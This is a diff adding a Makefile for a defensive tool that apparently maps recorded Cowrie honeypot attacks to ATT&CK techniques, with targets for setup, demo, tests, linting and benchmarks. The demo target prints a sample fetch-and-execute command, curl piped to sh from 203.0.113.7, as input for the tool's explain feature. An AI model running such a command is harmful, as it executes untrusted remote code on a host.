@@ -1,0 +1,57 @@
+# `make demo` and `make test` are all the set-up there is.
+PYTHON ?= $(shell command -v python3.11 || command -v python3)
+VENV := .venv
+BIN := $(VENV)/bin
+COWRIE := .venv-cowrie
+
+.PHONY: help demo test check format bench golden recording clean
+
+help: ## list the commands
+	@grep -E '^[a-z-]+:.*## ' Makefile | sed -E 's/:.*## /\t/' | expand -t 12
+
+demo: $(VENV)/.installed ## tag the recorded attack that ships with the project
+	@DECNET_DATA_DIR=build/demo $(BIN)/decnet ttp tag demo/cowrie.json --navigator build/demo/layer.json
+	@echo "Open build/demo/layer.json in the ATT&CK Navigator, or try: $(BIN)/decnet ttp explain 'curl -s http://203.0.113.7/x.sh | sh'"
+
+test: $(VENV)/.dev $(COWRIE)/.installed ## run every test
+	@$(BIN)/pytest
+
+check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
+	@$(BIN)/ruff format --check --quiet .
+	@$(BIN)/ruff check --quiet .
+	@$(BIN)/mypy --no-error-summary
+	@$(BIN)/lint-imports --no-logo
+	@$(BIN)/codespell
+	@$(BIN)/yamllint --strict rules
+
+format: $(VENV)/.dev ## format the code and mend what ruff can mend
+	@$(BIN)/ruff format --quiet .
+	@$(BIN)/ruff check --quiet --fix .
+
+bench: $(VENV)/.dev ## measure speed, print ratios
+	@$(BIN)/python -m bench
+
+golden: $(VENV)/.dev ## rewrite golden files after a wanted change
+	@$(BIN)/pytest -q --golden
+
+recording: $(VENV)/.dev $(COWRIE)/.installed ## make demo/cowrie.json anew from scripted visits to a real Cowrie
+	@$(BIN)/python -m scripts.record_cowrie demo/cowrie.json
+
+$(VENV)/.installed: pyproject.toml constraints.txt
+	@$(PYTHON) -m venv $(VENV)
+	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt --editable .
+	@touch $@
+
+$(VENV)/.dev: $(VENV)/.installed
+	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt 'pip>=25.1'
+	@$(BIN)/python -m pip install --quiet --disable-pip-version-check --constraint constraints.txt --group dev
+	@touch $@
+
+# Cowrie pins every library that it uses, so it lives in an environment of its own.
+$(COWRIE)/.installed: constraints-cowrie.txt
+	@$(PYTHON) -m venv $(COWRIE)
+	@$(COWRIE)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-cowrie.txt cowrie
+	@touch $@
+
+clean: ## remove what the commands above made
+	rm -rf $(VENV) $(COWRIE) build dist .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
